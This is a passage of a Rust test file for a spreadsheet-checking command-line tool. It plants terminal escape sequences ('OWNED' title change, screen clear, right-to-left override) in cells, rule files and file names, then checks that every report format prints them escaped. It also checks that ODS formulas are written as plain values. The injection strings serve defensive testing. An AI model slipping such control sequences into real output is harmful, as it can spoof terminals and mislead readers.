        .is_some_and(|c| c.starts_with("TD-68\u{1b}]0;OWNED\u{7}\u{1b}[2J\u{9b}\u{202e}"))));
    assert!(
        json["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["message"].as_str().unwrap().contains(HOSTILE)),
        "no finding quotes the cell"
    );

    // GitHub: every line one workflow command; nothing obeyed.
    let out = crossfoot(&["check", inputs_s, "--format", "github"]);
    assert_shown("github", &out.stdout, &['\n']);
    assert_shown("github stderr", &out.stderr, &['\n']);
    let github = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(github.lines().count() > 0, "{github}");
    for line in github.lines() {
        assert!(
            line.starts_with("::"),
            "a line that is not a command: {line}"
        );
        assert_eq!(line.matches("::").count(), 2, "{line}");
    }
    assert!(github.contains("\\x1b]0;OWNED\\x07"), "{github}");

    // JUnit: well-formed, nothing obeyed.
    let out = crossfoot(&["check", inputs_s, "--format", "junit"]);
    assert_shown("junit", &out.stdout, &['\n']);
    assert_well_formed("junit", &String::from_utf8_lossy(&out.stdout));
    assert!(String::from_utf8_lossy(&out.stdout).contains("\\x1b]0;OWNED"));

    // SARIF: JSON as above.
    let out = crossfoot(&["check", inputs_s, "--format", "sarif"]);
    assert_shown("sarif", &out.stdout, &['\n']);
    // Its texts are for a viewer to show: read back, they show the text too.
    let sarif: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let mut strings = Vec::new();
    json_strings(&sarif, &mut strings);
    for s in &strings {
        assert_shown("a SARIF text", s.as_bytes(), &['\n']);
    }
    assert!(sarif["runs"][0]["results"]
        .as_array()
        .unwrap()
        .iter()
        .any(|r| r["message"]["text"]
            .as_str()
            .unwrap()
            .contains("ô \\x1b]0;OWNED\\x07\\x1b[2J")));

    // The review workbook: every part well-formed; its own sheets (Summary, Findings) and
    // its notes show the text; the copies keep the branch's data.
    let pkg = assert_package_well_formed(&review);
    let own = assert_own_sheets_shown(&review, Some(&[0, 1]));
    assert!(own.contains("TD-68\\x1b]0;OWNED\\x07"), "{own}");
    assert!(own.contains("x-\\x1b]0;OWNED"), "{own}");
    for (name, xml) in &pkg {
        if name.starts_with("xl/comments") {
            assert_shown(name, unescape(xml).as_bytes(), &['\n', '\t']);
            assert!(!xml.contains("_x001B_"), "{name}");
        }
        if name == "xl/workbook.xml" {
            assert_shown(name, unescape(xml).as_bytes(), &['\n']);
        }
    }

    // The marked copies: well-formed, named without what a terminal would obey, the findings
    // sheet crossfoot adds shows the text.
    let copies: Vec<PathBuf> = std::fs::read_dir(&marks)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    assert_eq!(copies.len(), 3, "{copies:?}");
    for copy in &copies {
        let name = copy.file_name().unwrap().to_string_lossy().into_owned();
        assert_shown("a marked copy's name", name.as_bytes(), &[]);
        assert_package_well_formed(copy);
        let last = sheet_texts(copy, None).len();
        assert!(last > 0);
        let sheets = calamine::open_workbook_auto(copy)
            .map(|wb: calamine::Sheets<_>| calamine::Reader::sheet_names(&wb).len())
            .unwrap();
        assert_own_sheets_shown(copy, Some(&[sheets - 1]));
    }

    // The district summary: well-formed, every sheet crossfoot's own.
    let district = dir.path().join("district.xlsx");
    let out = crossfoot(&["consolidate", inputs_s, "-o", district.to_str().unwrap()]);
    assert_shown("consolidate stdout", &out.stdout, &['\n']);
    assert_shown("consolidate stderr", &out.stderr, &['\n']);
    assert!(
        district.exists(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_package_well_formed(&district);
    let texts = assert_own_sheets_shown(&district, None);
    assert!(texts.contains("TD-68\\x1b]0;OWNED"), "{texts}");

    // An id given to `explain`, a rule file's name and its snippet.
    let out = crossfoot(&["explain", &format!("M01.{HOSTILE}")]);
    assert_eq!(out.status.code(), Some(2));
    assert_shown("explain", &out.stderr, &['\n']);
    assert!(String::from_utf8_lossy(&out.stderr).contains("\\x1b]0;OWNED"));
    let rules = dir
        .path()
        .join(format!("r-{}.toml", "\u{1b}]0;OWNED\u{7}\u{202e}"));
    std::fs::write(
        &rules,
        format!("[[form]]\nid = \"X01\"\nname = \"{HOSTILE}\"\n\u{1b}]0;OWNED\u{7}\u{1b}[2J = 1\n"),
    )
    .unwrap();
    let rules_s = rules.to_str().unwrap();
    for args in [
        vec!["check", "--rules", rules_s, inputs_s],
        vec!["rules", "check", rules_s],
    ] {
        let out = crossfoot(&args);
        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
        assert_eq!(out.status.code(), Some(2), "{args:?}: {stderr}");
        assert_shown(&format!("{args:?}"), &out.stderr, &['\n']);
        assert!(
            stderr.contains("r-\\x1b]0;OWNED\\x07U+202E.toml"),
            "{stderr}"
        );
        assert!(
            stderr.contains("OWNED\\x07\\x1b[2J"),
            "the snippet: {stderr}"
        );
    }

    // A rule file's own words (TOML escapes write them in a valid file): `explain`, `rules`.
    let words = r"\u001B]0;OWNED\u0007\u001B[2J\u009B31m\u202E\u200B\nforged";
    let valid = dir.path().join("valid.toml");
    std::fs::write(
        &valid,
        format!(
            "[form]\nid = \"X1\"\nname = \"{words}\"\nlabels = [\"Không có nhãn này\"]\n\n\
             [[column]]\nid = \"count\"\nheader = \"Số lượng\"\nkind = \"count\"\n\n\
             [[row]]\nid = \"total\"\nlabel = \"Không có nhãn này\"\n\n\
             [[check]]\nid = \"X1.positive\"\nexpr = \"total >= 0\"\nmessage = \"{words}\"\n"
        ),
    )
    .unwrap();
    let valid_s = valid.to_str().unwrap();
    for args in [
        vec!["explain", "X1.positive", "--rules", valid_s],
        vec!["rules", "list", "--rules", valid_s],
        vec!["rules", "list", "--format", "json", "--rules", valid_s],
    ] {
        let out = crossfoot(&args);
        let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
        assert_eq!(out.status.code(), Some(0), "{args:?}: {stderr}");
        assert_shown(&format!("{args:?}"), &out.stdout, &['\n']);
        assert_shown(&format!("{args:?}"), &out.stderr, &['\n']);
        assert!(stdout.contains("OWNED"), "{args:?}: {stdout}");
    }
}

/// `path`'s package with `content.xml` edited by `edit`, its entries in their order (the
/// `mimetype` entry stored, as OpenDocument wants it first and uncompressed).
fn edit_ods(path: &str, edit: impl Fn(String) -> String) -> Vec<u8> {
    let bytes = std::fs::read(path).unwrap();
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for i in 0..archive.len() {
        let mut file = archive.by_index(i).unwrap();
        let name = file.name().unwrap().to_string();
        let mut data = Vec::new();
        file.read_to_end(&mut data).unwrap();
        if name == "content.xml" {
            data = edit(String::from_utf8(data).unwrap()).into_bytes();
        }
        let method = if name == "mimetype" {
            zip::CompressionMethod::Stored
        } else {
            zip::CompressionMethod::Deflated
        };
        let options = zip::write::SimpleFileOptions::default().compression_method(method);
        if name.ends_with('/') {
            out.add_directory(name, options).unwrap();
        } else {
            out.start_file(name, options).unwrap();
            out.write_all(&data).unwrap();
        }
    }
    out.finish().unwrap().into_inner()
}

/// An .ods stores its formulas in OpenDocument's syntax (`of:=SUM(96;1)`, `of:=[.C10]-56`):
/// the review workbook and the rebuilt marked copy write their values, not a formula an .xlsx
/// cannot read, and add no note calling them dangerous.
#[test]
fn an_ods_formula_is_written_as_its_value() {
    let dir = tempfile::tempdir().unwrap();
    let ods = dir.path().join("branch.ods");
    let cell = |v: &str| {
        format!("<table:table-cell office:value-type=\"float\" office:value=\"{v}\" calcext:value-type=\"float\">")
    };
    let with_formula = |f: &str, v: &str| {
        format!("<table:table-cell table:formula=\"{f}\" office:value-type=\"float\" office:value=\"{v}\" calcext:value-type=\"float\">")
    };
    std::fs::write(
        &ods,
        edit_ods("tests/fixtures/formats/branch-ratings.ods", |xml| {
            assert!(xml.contains(&cell("97")) && xml.contains(&cell("41")));
            assert!(!xml.contains("table:formula="), "the fixture had formulas");
            xml.replacen(&cell("97"), &with_formula("of:=SUM(96;1)", "97"), 1)
                .replacen(&cell("41"), &with_formula("of:=[.C10]-56", "41"), 1)
        }),
    )
    .unwrap();
    let review = dir.path().join("review.xlsx");
    let marks = dir.path().join("mk");
    let out = crossfoot(&[
        "check",
        ods.to_str().unwrap(),
        "-o",
        review.to_str().unwrap(),
        "--mark",
        marks.to_str().unwrap(),
        "--mark-all",
    ]);
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(out.status.code().is_some_and(|c| c <= 1), "{stderr}");
    let copy = marks.join("branch.tu-ods.kiem-tra.xlsx");
    for path in [&review, &copy] {
        let pkg = assert_package_well_formed(path);
        let fs = formulas(&pkg);
        assert!(
            fs.iter()
                .all(|f| !f.contains("of:") && !f.contains(';') && !f.contains("[.")),
            "{}: {fs:?}",
            path.display()
        );
        assert_eq!(fs, Vec::<String>::new(), "{}", path.display());
        let sheets: String = pkg
            .iter()
            .filter(|(n, _)| n.starts_with("xl/worksheets/sheet"))
            .map(|(_, x)| x.as_str())
            .collect();
        for v in ["97", "41"] {
            assert!(
                sheets.contains(&format!("<v>{v}</v>")),
                "{}: {v}",
                path.display()
            );
        }
        let notes = notes(&pkg);
        assert!(!notes.contains("of:="), "{}: {notes}", path.display());
    }
}
